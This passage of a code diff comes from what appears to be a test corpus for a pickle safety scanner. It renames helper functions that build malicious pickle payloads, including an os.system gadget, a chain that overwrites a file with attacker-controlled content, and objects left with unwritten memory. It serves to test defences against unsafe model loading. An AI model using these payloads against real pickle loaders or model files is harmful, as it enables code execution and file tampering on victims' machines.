@@ -55,7 +55,7 @@ def pickle_call(module, name, *args):
     return four(call_global(module, name, *args))
 
 
-def unseen(body):
+def mark_as_used(body):
     """fickling: the result of a call is given to a BUILD, and so its variable counts as used."""
     return body + b"}" + text("a") + number(1) + b"sb"
 
@@ -269,12 +269,12 @@ GADGETS = {
     # GHSA-mxhj-88fx-4pcv: a call by OBJ whose result is thrown away
     "OBJ and POP": four(b"(" + stack_global("os", "system") + short(TOUCH) + b"o0N"),
     # GHSA-mhc9-48gj-9gp3: REDUCE and then BUILD, of modules on no list
-    "smtplib and BUILD": four(unseen(call_global("smtplib", "SMTP", short("localhost")))),
+    "smtplib and BUILD": four(mark_as_used(call_global("smtplib", "SMTP", short("localhost")))),
     "socketserver and BUILD": four(
-        unseen(call_global("socketserver", "TCPServer", b"(" + short("") + number(0) + b"tN"))
+        mark_as_used(call_global("socketserver", "TCPServer", b"(" + short("") + number(0) + b"tN"))
     ),
-    "sqlite3 and BUILD": four(unseen(call_global("sqlite3", "connect", short("PWNED")))),
-    "signal and BUILD": four(unseen(call_global("signal", "raise_signal", number(23)))),
+    "sqlite3 and BUILD": four(mark_as_used(call_global("sqlite3", "connect", short("PWNED")))),
+    "signal and BUILD": four(mark_as_used(call_global("signal", "raise_signal", number(23)))),
     "BytesIO with a __setstate__": four(
         call_global("io", "BytesIO") + b"}" + short("__setstate__") + stack_global("os", "system") + b"sb"
     ),
@@ -345,7 +345,7 @@ SPELLED = call_global(
 )
 
 
-def partial(function, *args):
+def build_partial(function, *args):
     """Opcodes of `functools.partial(function, *args)`."""
     return call_global("functools", "partial", function, *args)
 
@@ -360,19 +360,19 @@ NEVER = stack_global("builtins", "getattr")
 SPECTRAL = stack_global("torch.nn.utils.spectral_norm", "SpectralNorm") + b")\x81}" + short("name") + short("a") + b"sb"
 
 
-def new(module, name):
+def build_empty_object(module, name):
     """NEWOBJ: an empty object of the given class."""
     return stack_global(module, name) + b")\x81"
 
 
-def attributes(**values):
+def build_dict(**values):
     """A dict of the given values."""
     return b"}(" + b"".join(short(name) + value for name, value in values.items()) + b"u"
 
 
-def having(holder, **values):
+def build_object(holder, **values):
     """An empty object of the given class with the given attributes."""
-    return new(*holder) + attributes(**values) + b"b"
+    return build_empty_object(*holder) + build_dict(**values) + b"b"
 
 
 def build_dtype(*state, code=b"", size=-1, flags=0):
@@ -382,32 +382,32 @@ def build_dtype(*state, code=b"", size=-1, flags=0):
     return dtype + b"(" + number(3) + short("|") + parts + number(size) + number(1) + number(flags) + b"tb"
 
 
-def config(**other):
+def build_config(**other):
     """A configuration of transformers with other names for its attributes."""
     names = {name: short(value) for name, value in other.items()}
-    return having(("transformers.configuration_utils", "PreTrainedConfig"), attribute_map=attributes(**names))
+    return build_object(("transformers.configuration_utils", "PreTrainedConfig"), attribute_map=build_dict(**names))
 
 
 ADDRESS = short(b"A" * 8)
 OBJECT = build_dtype(code=short("O8"), flags=63)
 SCALAR = stack_global("numpy._core.multiarray", "scalar")
 ONE_FIELD = (b"N", short("a") + b"\x85", b"}" + short("a") + OBJECT + number(0) + b"\x86s")
-SPACE = new("argparse", "Namespace")
+SPACE = build_empty_object("argparse", "Namespace")
 COMPUTED = call_global("builtins", "str", short("__setstate__"))
-PARAMETERS = having(("torch.nn.modules.container", "ParameterDict"), _keys=b"}")
-PICKED = having(("torch.utils.data.dataset", "Subset"), dataset=PARAMETERS, indices=b"]" + short("to") + b"a")
+PARAMETERS = build_object(("torch.nn.modules.container", "ParameterDict"), _keys=b"}")
+PICKED = build_object(("torch.utils.data.dataset", "Subset"), dataset=PARAMETERS, indices=b"]" + short("to") + b"a")
 GENERATOR = stack_global("torch._C", "Generator") + b")R"
 #: A number whose digits are an address.
 DIGITS = number(sum(0x11111111 << 30 * place for place in range(8)))
-PLACEMENT = new("torch.distributed.tensor.placement_types", "Partial")
-WRITTEN = attributes(reduce_op=short("sum")) + b"b"
-SCRIPTED = new("torch", "ScriptObject")
-HANDLE = new("torch.utils.hooks", "RemovableHandle")
+PLACEMENT = build_empty_object("torch.distributed.tensor.placement_types", "Partial")
+WRITTEN = build_dict(reduce_op=short("sum")) + b"b"
+SCRIPTED = build_empty_object("torch", "ScriptObject")
+HANDLE = build_empty_object("torch.utils.hooks", "RemovableHandle")
 #: A row of an optimizer's groups or states: a defaultdict whose factory is called for a missing key.
 LISTS = call_global("collections", "defaultdict", stack_global("builtins", "list"))
 
 
-def kept_weights():
+def build_kept_weights():
     """The weights of a quantized convolution of four channels, and its bias."""
     storage = (
         b"(" + text("storage") + global_name("torch", "QInt8Storage") + text("0") + text("cpu") + number(144) + b"tQ"
@@ -421,13 +421,20 @@ def kept_weights():
     )
 
 
-def convolution(module="torch.ao.nn.quantized.modules.conv", stride=(1, 1), dilation=(1, 1), groups=1):
+def build_convolution(module="torch.ao.nn.quantized.modules.conv", stride=(1, 1), dilation=(1, 1), groups=1):
     """A quantized convolution. Loading packs its state."""
     sizes = number(4) + number(4) + numbers(3, 3) + numbers(*stride) + numbers(0, 0) + numbers(*dilation)
     rest = (
-        b"\x89" + numbers(0, 0) + number(groups) + text("zeros") + kept_weights() + b"G\x3f\xf0" + bytes(6) + b"K\0\x89"
+        b"\x89"
+        + numbers(0, 0)
+        + number(groups)
+        + text("zeros")
+        + build_kept_weights()
+        + b"G\x3f\xf0"
+        + bytes(6)
+        + b"K\0\x89"
     )
-    return new(module, "Conv2d") + b"(" + sizes + rest + b"tb"
+    return build_empty_object(module, "Conv2d") + b"(" + sizes + rest + b"tb"
 
 
 def build_script_object(name, *state):
@@ -435,34 +442,36 @@ def build_script_object(name, *state):
     return SCRIPTED + b"(" + b"".join(state) + b"t" + text(f"__torch__.torch.classes.{name}") + b"\x86b"
 
 
-def scripted_convolution(*values):
+def build_scripted_convolution(*values):
     """Packed weights of a convolution with the given numbers: dimensions, strides and so on, groups, flags."""
     numbers_of = b"](" + b"".join(map(number, values)) + b"e"
     return build_script_object(
-        "quantized.Conv2dPackedParamsBase", number(3), numbers_of, b"](N" + kept_weights() + b"e"
+        "quantized.Conv2dPackedParamsBase", number(3), numbers_of, b"](N" + build_kept_weights() + b"e"
     )
 
 
-def optimizer(name, **state):
+def build_optimizer(name, **state):
     """An optimizer with the given attributes and `defaults`, but without other attributes that torch reads."""
-    return having((f"torch.optim.{name.lower()}", name), **{"defaults": b"}", **state})
+    return build_object((f"torch.optim.{name.lower()}", name), **{"defaults": b"}", **state})
 
 
 # Clean classes on load, with objects of the pickle in place of plain values.
 METHODS = {
-    "a recurrent module of 10**12 layers": having(
+    "a recurrent module of 10**12 layers": build_object(
         ("torch.ao.nn.quantized.reference.modules.rnn", "LSTM"), num_layers=number(10**12)
     ),
-    "a recurrent module of 10**12 layers with a module's state": having(
+    "a recurrent module of 10**12 layers with a module's state": build_object(
         ("torch.nn.modules.rnn", "LSTM"), num_layers=number(10**12), _parameters=b"}", _modules=b"}"
     ),
     "a generator whose state is a number": GENERATOR + DIGITS + b"b",
     "a generator whose state is text": GENERATOR + text("AAAAAAAA") + b"b",
     "a generator whose state is too short": GENERATOR + b"K\x01N\x86b",
     "a generator whose state is no tensor": stack_global("torch", "Generator") + b")R" + b"K\x01NK\x02\x87b",
-    "an object of TorchScript without one": b"}" + new("torch", "ScriptObject") + b"Ns",
-    "a method by another name, given an element": config(append="save_pretrained") + short("PWNED") + b"a",
-    "a method by another name, given a second state": config(__setstate__="save_pretrained") + short("PWNED") + b"b",
+    "an object of TorchScript without one": b"}" + build_empty_object("torch", "ScriptObject") + b"Ns",
+    "a method by another name, given an element": build_config(append="save_pretrained") + short("PWNED") + b"a",
+    "a method by another name, given a second state": build_config(__setstate__="save_pretrained")
+    + short("PWNED")
+    + b"b",
     # pickle creates an object of C++ whose memory is not written before its state.
     "a placement without a state": PLACEMENT,
     "a placement as a key": b"}" + PLACEMENT + b"Ns",
@@ -471,7 +480,7 @@ METHODS = {
     "a placement in a set": b"\x8f(" + PLACEMENT + b"q\x05\x90h\x05" + WRITTEN + b"0",
     "a placement in a frozenset": b"(" + PLACEMENT + b"q\x05\x91h\x05" + WRITTEN + b"0",
     "a placement in a specification as a key": b"}"
-    + having(
+    + build_object(
         ("torch.distributed.tensor._dtensor_spec", "DTensorSpec"),
         mesh=b"N",
         placements=PLACEMENT + b"q\x05\x85",
@@ -485,7 +494,7 @@ METHODS = {
     + call_global("zoneinfo", "ZoneInfo", b"h\x05")
     + b"0"
     + WRITTEN,
-    "a placement for a mask": having(
+    "a placement for a mask": build_object(
         ("torch.distributed.tensor.placement_types", "_MaskPartial"), reduce_op=short("sum")
     ),
     "an object of TorchScript in a tuple as a key": b"}" + SCRIPTED + b"q\x05\x85Nsh\x05" + b")N\x86b0",
@@ -496,49 +505,57 @@ METHODS = {
     "a hook with a number of 62 bits": HANDLE + b"N" + number(2**62) + b"\x86b",
     "a hook of objects": HANDLE + SPACE + b"K\x01)\x87b",
     # Optimizers look up keys while they are loaded.
-    "an optimizer whose group calls a function": optimizer("Adam", state=b"}", param_groups=b"]" + LISTS + b"a"),
-    "an optimizer whose state calls a function": optimizer(
+    "an optimizer whose group calls a function": build_optimizer("Adam", state=b"}", param_groups=b"]" + LISTS + b"a"),
+    "an optimizer whose state calls a function": build_optimizer(
         "Adagrad", param_groups=b"]", state=b"}K\x01" + LISTS + b"s"
     ),
-    "an optimizer whose state is made of one that calls a function": optimizer(
+    "an optimizer whose state is made of one that calls a function": build_optimizer(
         "Adagrad", param_groups=b"]", state=call_global("collections", "OrderedDict", b"]K\x01" + LISTS + b"\x86a")
     ),
     # Packing divides by these numbers, or reads by them.
-    "a quantized convolution of no groups": convolution(groups=0),
-    "a quantized convolution with a stride of 0": convolution(stride=(0, 0)),
-    "a quantized convolution with a dilation of 0": convolution(dilation=(1, 0)),
-    "a quantized convolution of older releases": convolution("torch.nn.quantized.modules.conv", groups=0),
-    "a quantized convolution with a dict for its state": new("torch.ao.nn.quantized.modules.conv", "Conv2d")
+    "a quantized convolution of no groups": build_convolution(groups=0),
+    "a quantized convolution with a stride of 0": build_convolution(stride=(0, 0)),
+    "a quantized convolution with a dilation of 0": build_convolution(dilation=(1, 0)),
+    "a quantized convolution of older releases": build_convolution("torch.nn.quantized.modules.conv", groups=0),
+    "a quantized convolution with a dict for its state": build_empty_object(
+        "torch.ao.nn.quantized.modules.conv", "Conv2d"
+    )
     + b"}(K\x08K\0ub",
-    "a convolution of TorchScript of no groups": convolution("__torch__.torch.ao.nn.quantized.modules.conv", groups=0),
-    "the same by another case": convolution("__torch__.torch.ao.nn.Quantized.modules.conv", groups=0),
-    "packed weights of no groups": scripted_convolution(2, 1, 1, 0, 0, 1, 1, 0, 0, 0, 0),
-    "packed weights with a stride of 0": scripted_convolution(2, 0, 1, 0, 0, 1, 1, 0, 0, 1, 0),
-    "packed weights with too few numbers": scripted_convolution(2, 1, 1),
+    "a convolution of TorchScript of no groups": build_convolution(
+        "__torch__.torch.ao.nn.quantized.modules.conv", groups=0
+    ),
+    "the same by another case": build_convolution("__torch__.torch.ao.nn.Quantized.modules.conv", groups=0),
+    "packed weights of no groups": build_scripted_convolution(2, 1, 1, 0, 0, 1, 1, 0, 0, 0, 0),
+    "packed weights with a stride of 0": build_scripted_convolution(2, 0, 1, 0, 0, 1, 1, 0, 0, 1, 0),
+    "packed weights with too few numbers": build_scripted_convolution(2, 1, 1),
     "packed weights of an old version": build_script_object("quantized.Conv2dPackedParamsBase", text("2"), b"]", b"]"),
     "packed weights of sparse blocks": build_script_object("sparse.LinearPackedParamsBase", number(2), b"N"),
     "packed weights of an unknown class": build_script_object("a.B", number(2)),
     "packed weights of no class": SCRIPTED + b")K\0\x86b",
-    "an item set behind the state": having(("collections", "UserDict"), data=b"}") + b"K\x01K\x02s",
-    "an optimizer that asks an object for its defaults": having(
+    "an item set behind the state": build_object(("collections", "UserDict"), data=b"}") + b"K\x01K\x02s",
+    "an optimizer that asks an object for its defaults": build_object(
         ("torch.optim.sgd", "SGD"), defaults=build_namespace("a", b"N")
     ),
-    "an optimizer that asks an object for its state": having(
-        ("torch.optim.adam", "Adam"), state=build_namespace("get", partial(stack_global("builtins", "dict")))
+    "an optimizer that asks an object for its state": build_object(
+        ("torch.optim.adam", "Adam"), state=build_namespace("get", build_partial(stack_global("builtins", "dict")))
     ),
-    "an optimizer whose groups are objects": having(
+    "an optimizer whose groups are objects": build_object(
         ("torch.optim.adam", "Adam"), param_groups=b"]" + build_namespace("a", b"N") + b"a"
     ),
-    "an attribute whose name is computed": SPACE + b"}" + COMPUTED + partial(stack_global("pathlib", "Path")) + b"sb",
-    "all attributes at once": new("torch.distributed._shard.metadata", "ShardMetadata")
+    "an attribute whose name is computed": SPACE
+    + b"}"
+    + COMPUTED
+    + build_partial(stack_global("pathlib", "Path"))
+    + b"sb",
+    "all attributes at once": build_empty_object("torch.distributed._shard.metadata", "ShardMetadata")
     + b"N"
-    + attributes(__dict__=b"}")
+    + build_dict(__dict__=b"}")
     + b"\x86b",
-    "attributes that may be properties": new("transformers.configuration_utils", "PreTrainedConfig")
+    "attributes that may be properties": build_empty_object("transformers.configuration_utils", "PreTrainedConfig")
     + b"N"
-    + attributes(per_layer_config=b"N")
+    + build_dict(per_layer_config=b"N")
     + b"\x86b",
-    "other names for attributes": config(setdefault="save_pretrained"),
+    "other names for attributes": build_config(setdefault="save_pretrained"),
     "a namespace made of computed names": call_global("types", "SimpleNamespace", b"}" + COMPUTED + b"Ns"),
     "a tensor with a computed name": call_global(
         "torch._tensor",
@@ -580,12 +597,12 @@ METHODS = {
         "_rebuild_from_type_v2",
         stack_global("torch.nested._internal.nested_tensor", "_rebuild_njt"),
         stack_global("torch.nested._internal.nested_tensor", "NestedTensor"),
-        attributes(values=SPACE, offsets=SPACE) + b"\x85",
+        build_dict(values=SPACE, offsets=SPACE) + b"\x85",
         b"}",
     ),
     "a storage's kind that is an object": b"(" + short("storage") + build_namespace("dtype", b"N") + short("0") + b"tQ",
     "what numpy gives back": call_function(SCALAR, OBJECT, stack_global("argparse", "Namespace"))
-    + attributes(a=b"N")
+    + build_dict(a=b"N")
     + b"b",
     "objects that are told to be none": call_function(SCALAR, build_dtype(code=short("O8")), ADDRESS),
     "objects in a field, told to be none": build_dtype(*ONE_FIELD, code=short("V8"), size=8),
@@ -593,44 +610,44 @@ METHODS = {
     "a type told by a type": build_dtype(code=OBJECT),
     "a type told by a class": build_dtype(code=stack_global("builtins", "object")),
     "an array of objects over bytes": call_global("numpy", "ndarray", number(1), short("O"), ADDRESS),
-    "the same put off": partial(stack_global("numpy", "ndarray"), number(1), short("O"), ADDRESS),
+    "the same put off": build_partial(stack_global("numpy", "ndarray"), number(1), short("O"), ADDRESS),
     "the same by its __new__": call_global("copyreg", "__newobj__", stack_global("numpy", "ndarray"), number(1)),
     "a member of an encoding changed": call_global(
         "torch.distributed.checkpoint.metadata", "_MEM_FORMAT_ENCODING", number(0)
     )
-    + attributes(a=b"N")
+    + build_dict(a=b"N")
     + b"b",
 }
 
-SPACED = new("types", "SimpleNamespace")
+SPACED = build_empty_object("types", "SimpleNamespace")
 CONFIG = ("transformers.configuration_utils", "PreTrainedConfig")
 RELU = stack_global("torch.nn.functional", "relu")
 
 
-def put_off(function, *args, **kwargs):
+def build_deferred_call(function, *args, **kwargs):
     """A partial in the form written by pickle: the function and its arguments are the state."""
-    state = b"(" + function + b"(" + b"".join(args) + b"t" + attributes(**kwargs) + b"Nt"
+    state = b"(" + function + b"(" + b"".join(args) + b"t" + build_dict(**kwargs) + b"Nt"
     return call_global("functools", "partial", function) + state + b"b"
 
 
-def overwriting(path):
+def build_overwriting_config(path):
     """A function that builds a configuration; the configuration then writes itself to `path`, for any arguments."""
-    off = put_off(
-        stack_global(*CONFIG), attribute_map=attributes(fill_=short("to_json_file")), note=short("of the attacker")
+    off = build_deferred_call(
+        stack_global(*CONFIG), attribute_map=build_dict(fill_=short("to_json_file")), note=short("of the attacker")
     )
-    steps = put_off(stack_global("numpy", "mean"), having(("types", "SimpleNamespace"), mean=off)) + put_off(
-        stack_global("torch.nn.init", "constant_"), val=short(path)
-    )
-    chain = having(
+    steps = build_deferred_call(
+        stack_global("numpy", "mean"), build_object(("types", "SimpleNamespace"), mean=off)
+    ) + build_deferred_call(stack_global("torch.nn.init", "constant_"), val=short(path))
+    chain = build_object(
         ("torch.distributions.transforms", "ComposeTransform"), _cache_size=number(0), parts=b"](" + steps + b"e"
     )
-    start = having(("types", "SimpleNamespace"), softmax=chain)
-    return put_off(stack_global("torch.nn.functional", "softmax"), start, number(0))
+    start = build_object(("types", "SimpleNamespace"), softmax=chain)
+    return build_deferred_call(stack_global("torch.nn.functional", "softmax"), start, number(0))
 
 
 def build_chain_map(*maps):
     """A ChainMap of the given maps."""
-    return having(("collections", "ChainMap"), maps=b"](" + b"".join(maps) + b"e")
+    return build_object(("collections", "ChainMap"), maps=b"](" + b"".join(maps) + b"e")
 
 
 def join_operands(*operands):
@@ -638,68 +655,93 @@ def join_operands(*operands):
     return call_global("functools", "reduce", stack_global("_operator", "or_"), b"](" + b"".join(operands) + b"e")
 
 
-def optional(*operands):
+def build_optional(*operands):
     """`typing.Optional` of the operands, as pickle spells the expression."""
     return call_global("_operator", "getitem", stack_global("typing", "Optional"), b"(" + b"".join(operands) + b"t")
 
 
-def given_back(*parts):
+def build_persistent_id(*parts):
     """A persistent id of the given parts. In a tar archive, torch returns the first part of most tuples."""
     return b"(" + b"".join(parts) + b"tQ"
 
 
-STORAGE_ID = given_back(short("storage"), stack_global("torch", "FloatStorage"), short("0"), short("cpu"), number(4))
+STORAGE_ID = build_persistent_id(
+    short("storage"), stack_global("torch", "FloatStorage"), short("0"), short("cpu"), number(4)
+)
 # Methods built by the pickle, and deferred calls, each alone.
 HIDDEN = {
     "a file overwritten by |": join_operands(
-        build_chain_map(having(("types", "SimpleNamespace"), copy=overwriting("PWNED"))), b"}"
+        build_chain_map(build_object(("types", "SimpleNamespace"), copy=build_overwriting_config("PWNED"))), b"}"
     ),
-    "a file overwritten by the text of an error": optional(having(CONFIG, to_json_string=overwriting("PWNED"))),
+    "a file overwritten by the text of an error": build_optional(
+        build_object(CONFIG, to_json_string=build_overwriting_config("PWNED"))
+    ),
     "| of objects": join_operands(build_chain_map(b"}"), b"}"),
-    "Optional of an object": optional(SPACED),
-    "Optional of a list with an object": optional(b"](" + SPACED + b"e"),
-    "Optional of an alias of an object": optional(call_global("types", "GenericAlias", SPACED, b")")),
-    "a partial of a callback": put_off(
+    "Optional of an object": build_optional(SPACED),
+    "Optional of a list with an object": build_optional(b"](" + SPACED + b"e"),
+    "Optional of an alias of an object": build_optional(call_global("types", "GenericAlias", SPACED, b")")),
+    "a partial of a callback": build_deferred_call(
         stack_global("lightning.pytorch.callbacks.model_checkpoint", "ModelCheckpoint"), dirpath=short("a")
     ),
-    "a partial of a configuration": put_off(stack_global("transformers.models.auto.configuration_auto", "AutoConfig")),
-    "a partial of a path": put_off(stack_global("pathlib", "Path"), short("a")),
-    "a partial of a function, given an object": put_off(stack_global("numpy", "mean"), SPACED),
-    "a partial of a function, given an object in a list": put_off(stack_global("numpy", "mean"), b"](" + SPACED + b"e"),
-    "a partial of a function, given a text": put_off(stack_global("torch.nn.init", "constant_"), val=short("PWNED")),
-    "a partial made with an object": partial(stack_global("numpy", "mean"), SPACED),
-    "a partial of a module, given an object": put_off(stack_global("torch.nn.modules.container", "Sequential"), SPACED),
+    "a partial of a configuration": build_deferred_call(
+        stack_global("transformers.models.auto.configuration_auto", "AutoConfig")
+    ),
+    "a partial of a path": build_deferred_call(stack_global("pathlib", "Path"), short("a")),
+    "a partial of a function, given an object": build_deferred_call(stack_global("numpy", "mean"), SPACED),
+    "a partial of a function, given an object in a list": build_deferred_call(
+        stack_global("numpy", "mean"), b"](" + SPACED + b"e"
+    ),
+    "a partial of a function, given a text": build_deferred_call(
+        stack_global("torch.nn.init", "constant_"), val=short("PWNED")
+    ),
+    "a partial made with an object": build_partial(stack_global("numpy", "mean"), SPACED),
+    "a partial of a module, given an object": build_deferred_call(
+        stack_global("torch.nn.modules.container", "Sequential"), SPACED
+    ),
     "a partial whose arguments are computed": call_global("functools", "partial", RELU)
     + b"("
     + RELU
     + SPACED
     + b"NNtb",
     "a defaultdict of a partial of a function": call_global(
-        "collections", "defaultdict", put_off(stack_global("torch.nn.functional", "linear"), tensor(), tensor())
+        "collections",
+        "defaultdict",
+        build_deferred_call(stack_global("torch.nn.functional", "linear"), tensor(), tensor()),
     ),
     "a defaultdict of a partial of a module": call_global(
-        "collections", "defaultdict", put_off(stack_global("torch.nn.modules.linear", "Linear"), number(2**20))
+        "collections",
+        "defaultdict",
+        build_deferred_call(stack_global("torch.nn.modules.linear", "Linear"), number(2**20)),
     ),
     "a defaultdict of a partial of a list that becomes one of a function": call_global(
         "collections",
         "defaultdict",
-        partial(stack_global("builtins", "list")) + b"(" + stack_global("torch.nn.functional", "relu") + b")}Nt" + b"b",
+        build_partial(stack_global("builtins", "list"))
+        + b"("
+        + stack_global("torch.nn.functional", "relu")
+        + b")}Nt"
+        + b"b",
     ),
     "a hook of a lazy module that is called": call_function(
-        call_global("builtins", "getattr", new("torch.nn.modules.linear", "LazyLinear"), short("_infer_parameters")),
+        call_global(
+            "builtins",
+            "getattr",
+            build_empty_object("torch.nn.modules.linear", "LazyLinear"),
+            short("_infer_parameters"),
+        ),
         b"N",
     ),
     "another method of a lazy module": call_global(
-        "builtins", "getattr", new("torch.nn.modules.linear", "LazyLinear"), short("apply")
+        "builtins", "getattr", build_empty_object("torch.nn.modules.linear", "LazyLinear"), short("apply")
     ),
     "a hook of a lazy module that has attributes": call_global(
         "builtins",
         "getattr",
-        having(("torch.nn.modules.linear", "LazyLinear"), _infer_parameters=RELU),
+        build_object(("torch.nn.modules.linear", "LazyLinear"), _infer_parameters=RELU),
         short("_infer_parameters"),
     ),
     "a hook of a module that is not lazy": call_global(
-        "builtins", "getattr", new("torch.nn.modules.linear", "Linear"), short("_infer_parameters")
+        "builtins", "getattr", build_empty_object("torch.nn.modules.linear", "Linear"), short("_infer_parameters")
     ),
     "a defaultdict of a callback": call_global(
         "collections", "defaultdict", stack_global("pytorch_lightning.callbacks.timer", "Timer")
@@ -707,28 +749,28 @@ HIDDEN = {
     "a defaultdict of a configuration": call_global("collections", "defaultdict", stack_global(*CONFIG)),
     "other names for attributes, as arguments": stack_global(*CONFIG)
     + b")"
-    + attributes(attribute_map=attributes(append=short("save_pretrained")))
+    + build_dict(attribute_map=build_dict(append=short("save_pretrained")))
     + b"\x92",
-    "a function as a method of a namespace": having(("types", "SimpleNamespace"), copy=RELU),
-    "a partial as a method of a namespace": having(("argparse", "Namespace"), items=put_off(RELU)),
-    "a function in a configuration": having(CONFIG, to_json_string=RELU),
-    "a partial among the maps of a ChainMap": build_chain_map(put_off(RELU)),
-    "a function among the parts of a transform": having(
+    "a function as a method of a namespace": build_object(("types", "SimpleNamespace"), copy=RELU),
+    "a partial as a method of a namespace": build_object(("argparse", "Namespace"), items=build_deferred_call(RELU)),
+    "a function in a configuration": build_object(CONFIG, to_json_string=RELU),
+    "a partial among the maps of a ChainMap": build_chain_map(build_deferred_call(RELU)),
+    "a function among the parts of a transform": build_object(
         ("torch.distributions.transforms", "ComposeTransform"), parts=b"](" + RELU + b"e"
     ),
-    "a function as a method of an optimizer": having(("torch.optim.adam", "Adam"), step=RELU),
+    "a function as a method of an optimizer": build_object(("torch.optim.adam", "Adam"), step=RELU),
     "a function as a method of a parameter": call_global(
-        "torch._utils", "_rebuild_parameter_with_state", tensor(), b"\x88", b"}", attributes(numel=RELU)
+        "torch._utils", "_rebuild_parameter_with_state", tensor(), b"\x88", b"}", build_dict(numel=RELU)
     ),
-    "a function as a module": having(
-        ("torch.nn.modules.container", "Sequential"), _parameters=b"}", _modules=attributes(a=RELU)
+    "a function as a module": build_object(
+        ("torch.nn.modules.container", "Sequential"), _parameters=b"}", _modules=build_dict(a=RELU)
     ),
-    "a function as forward": having(
+    "a function as forward": build_object(
         ("torch.nn.modules.linear", "Identity"), _parameters=b"}", _modules=b"}", forward=RELU
     ),
-    "a module that is none": having(("torch.nn.modules.linear", "Identity"), training=b"\x88"),
-    "an array's interface": having(
-        ("types", "SimpleNamespace"), __array_interface__=attributes(data=number(8) + b"\x89\x86")
+    "a module that is none": build_object(("torch.nn.modules.linear", "Identity"), training=b"\x88"),
+    "an array's interface": build_object(
+        ("types", "SimpleNamespace"), __array_interface__=build_dict(data=number(8) + b"\x89\x86")
     ),
     # 2 GB for each element; the state need not contain this size
     "a type of numpy by a list": call_function(
@@ -742,7 +784,7 @@ HIDDEN = {
     "bytes of text by a keyword": stack_global("builtins", "bytes")
     + text("\u3400")
     + b"\x85"
-    + attributes(encoding=short("idna"))
+    + build_dict(encoding=short("idna"))
     + b"\x92",
     "bytes of numpy in Punycode": call_global("numpy", "bytes_", text("\u3400"), short("punycode")),
     "bytes of numpy in Punycode by NEWOBJ": stack_global("numpy", "bytes_")
@@ -752,10 +794,10 @@ HIDDEN = {
     "a version in Punycode": call_global("torch.torch_version", "TorchVersion", short(b"a-b"), short("punycode")),
     "text by a codec that is computed": call_global("_codecs", "encode", text("a"), COMPUTED),
     # uuid.UUID calls `replace` of its argument
-    "a UUID of an object": call_global("uuid", "UUID", having(("types", "SimpleNamespace"), replace=RELU)),
+    "a UUID of an object": call_global("uuid", "UUID", build_object(("types", "SimpleNamespace"), replace=RELU)),
     # the codec `idna` calls `encode` of its argument
     "an object encoded": call_global(
-        "_codecs", "encode", having(("types", "SimpleNamespace"), encode=RELU), short("idna")
+        "_codecs", "encode", build_object(("types", "SimpleNamespace"), encode=RELU), short("idna")
     ),
     # fractions.Fraction calls `as_integer_ratio` from Python 3.14 on
     "a fraction of an object": call_global("fractions", "Fraction", SPACED),
@@ -770,7 +812,7 @@ HIDDEN = {
     "an object in a sequence": stack_global("torch.nn.utils.rnn", "PackedSequence") + b"(" + SPACED + b"NNNt\x81",
     "a state of the process, made": call_global("accelerate.state", "PartialState", b"\x88"),
     "a state of the process, made without arguments": call_global("accelerate.state", "AcceleratorState"),
-    "a storage changed": STORAGE_ID + attributes(_untyped_storage=b"N") + b"b",
+    "a storage changed": STORAGE_ID + build_dict(_untyped_storage=b"N") + b"b",
     "items of a storage": STORAGE_ID + b"K\x00K\x01s",
     "a class of TorchScript": call_global("__torch__.evil", "Run"),
 }
@@ -842,12 +884,12 @@ HOOK_DICTS = (
 MODULE_PARTS = {"_parameters": b"}", "_buffers": b"}", "_modules": b"}"} | dict.fromkeys(HOOK_DICTS, b"}")
 
 
-def of_module(holder, **values):
+def build_module(holder, **values):
     """A module of the given class with the dicts of every module, and the given attributes."""
-    return having(holder, **(MODULE_PARTS | values))
+    return build_object(holder, **(MODULE_PARTS | values))
 
 
-def pairs(**values):
+def build_pairs(**values):
     """A list of pairs; `dict.update` accepts pairs as well as a dict."""
     return b"](" + b"".join(short(name) + value + b"\x86" for name, value in values.items()) + b"e"
 
@@ -857,25 +899,29 @@ def build_ordered_dict(key, value):
     return call_global("collections", "OrderedDict") + key + value + b"s"
 
 
-def calling(function, state=attributes):
+def build_calling_optimizer(function, state=build_dict):
     """An optimizer that calls the function for each parameter on load."""
-    groups = b"]" + attributes(params=b"]" + number(0) + b"a") + b"a"
-    return new("torch.optim.adadelta", "Adadelta") + state(defaults=b"}", param_groups=groups, state=function) + b"b"
+    groups = b"]" + build_dict(params=b"]" + number(0) + b"a") + b"a"
+    return (
+        build_empty_object("torch.optim.adadelta", "Adadelta")
+        + state(defaults=b"}", param_groups=groups, state=function)
+        + b"b"
+    )
 
 
 def wrap_function(function):
     """A DataParallel without devices, with the function in place of its module."""
-    return of_module(PARALLEL, device_ids=b"]", module=function)
+    return build_module(PARALLEL, device_ids=b"]", module=function)
 
 
-def getting(function):
+def hide_get_method(function):
     """An OrderedDict with an attribute that hides the method `get`."""
-    return call_global("collections", "OrderedDict") + attributes(get=function) + b"b"
+    return call_global("collections", "OrderedDict") + build_dict(get=function) + b"b"
 
 
-def named_arguments(function, *args, **kwargs):
+def build_newobj_ex(function, *args, **kwargs):
     """NEWOBJ_EX."""
-    return function + b"(" + b"".join(args) + b"t" + attributes(**kwargs) + b"\x92"
+    return function + b"(" + b"".join(args) + b"t" + build_dict(**kwargs) + b"\x92"
 
 
 def build_mapping(key, value):
@@ -883,7 +929,7 @@ def build_mapping(key, value):
     return b"}" + key + value + b"s"
 
 
-INTERFACE = attributes(
+INTERFACE = build_dict(
     data=number(0x4141414141) + b"\x89\x86", shape=numbers(1), typestr=short("<u8"), version=number(3)
 )
 MASKED = stack_global("numpy.ma.core", "MaskedArray")
@@ -895,7 +941,7 @@ CODED = call_global("numpy", "dtype", short("U9"), b"\x89", b"\x88")
 TEXTS = {
     "str": call_global("builtins", "str", short("__array__")),
     "str of numpy": call_global("numpy", "str_", short("__array__")),
-    "UserString": having(("collections", "UserString"), data=short("__array__")),
+    "UserString": build_object(("collections", "UserString"), data=short("__array__")),
     "a version": stack_global("torch.torch_version", "TorchVersion") + short("__array__") + b"\x85\x81",
     "an identity": call_global("torch.jit._pickle", "restore_type_tag", short("__array__"), short("str")),
     "a scalar": call_function(SCALAR, CODED, short("__array__".encode("utf-32-le"))),
@@ -903,142 +949,167 @@ TEXTS = {
 # States, arguments and attributes of another kind than picklers write, or at another time.
 STATES = {
     # nn.Module, Optimizer and GradScaler update their dict by the state
-    "an optimizer of pairs, which calls a method of a module of pairs": calling(
-        new(*FUSED) + pairs(get=PRINT, **MODULE_PARTS) + b"b", pairs
+    "an optimizer of pairs, which calls a method of a module of pairs": build_calling_optimizer(
